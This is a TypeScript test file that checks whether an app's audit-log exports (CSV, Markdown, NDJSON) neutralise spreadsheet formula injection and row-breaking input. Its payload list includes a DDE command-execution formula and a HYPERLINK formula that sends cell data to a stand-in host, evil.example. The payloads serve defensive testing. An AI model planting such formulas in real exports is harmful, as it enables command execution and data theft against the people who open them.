import { parse } from "csv-parse/sync";
import { describe, expect, test } from "vitest";
import { startApp } from "../app.fixture.ts";

/** What a spreadsheet would run, and what would end a cell or a row early. */
const HOSTILE = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "|calc",
  "%0A=1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  'a","=1+1',
  'a"\r\n"=1+1","',
  "a;=1+1",
  'ends in "',
  "a,b\nc",
  '""',
  "",
];
/** Spreadsheets leave out leading blanks and marks, and read full-width signs as the plain ones. */
const RUNS = /^[\s\p{Cc}\p{Cf}]*[=+\-@|%＝＋－＠]/u;
const CELL = /^'/;

async function exported(format: string) {
  const { post, send } = await startApp();
  // Names are sent as one line; all else as it stands.
  for (const text of HOSTILE) await post("/api/markers", { title: `x ${text}`, kind: "note", reason: text });
  for (const text of HOSTILE)
    await post(`/api/queues/${encodeURIComponent(text) || "none"}/pause`, { reason: text });
  return (await send(`/api/audit/export?format=${format}`)).text();
}

describe("attack 14: an export of the audit", () => {
  test("as CSV has every record in one row of as many cells as the head, and no cell that a spreadsheet would run", async () => {
    const rows = parse(await exported("csv"), { relax_column_count: false });
    const [head = [], ...records] = rows;
    // And one that says that the console was started.
    expect(records).toHaveLength(2 * HOSTILE.length + 1);
    for (const record of records) {
      expect(record).toHaveLength(head.length);
      for (const cell of record) expect(cell).not.toMatch(RUNS);
    }
    // What was disarmed is told by an apostrophe and else as it was.
    const reasons = records.map((record) => record[head.indexOf("reason")] ?? "");
    const said = HOSTILE.map((text) => text.trim()).filter((text) => text !== "");
    for (const text of said) expect(reasons.map((cell) => cell.replace(CELL, ""))).toContain(text);
  });

  test("as Markdown has every record in one row, and no markup of anybody else", async () => {
    const text = await exported("markdown");
    const rows = text.trim().split("\n");
    expect(rows).toHaveLength(2 * HOSTILE.length + 3);
    for (const row of rows.slice(2)) expect(row.split("|")).toHaveLength(9);
    expect(text).not.toMatch(/[\r\u2028\u2029]/);
  });

  test("as NDJSON has every record in one line", async () => {
    const lines = (await exported("ndjson")).trim().split("\n");
    expect(lines.map((line) => JSON.parse(line).id)).toHaveLength(2 * HOSTILE.length + 1);
    for (const line of lines) expect(line).not.toMatch(/[\u2028\u2029\r]/);
  });
});
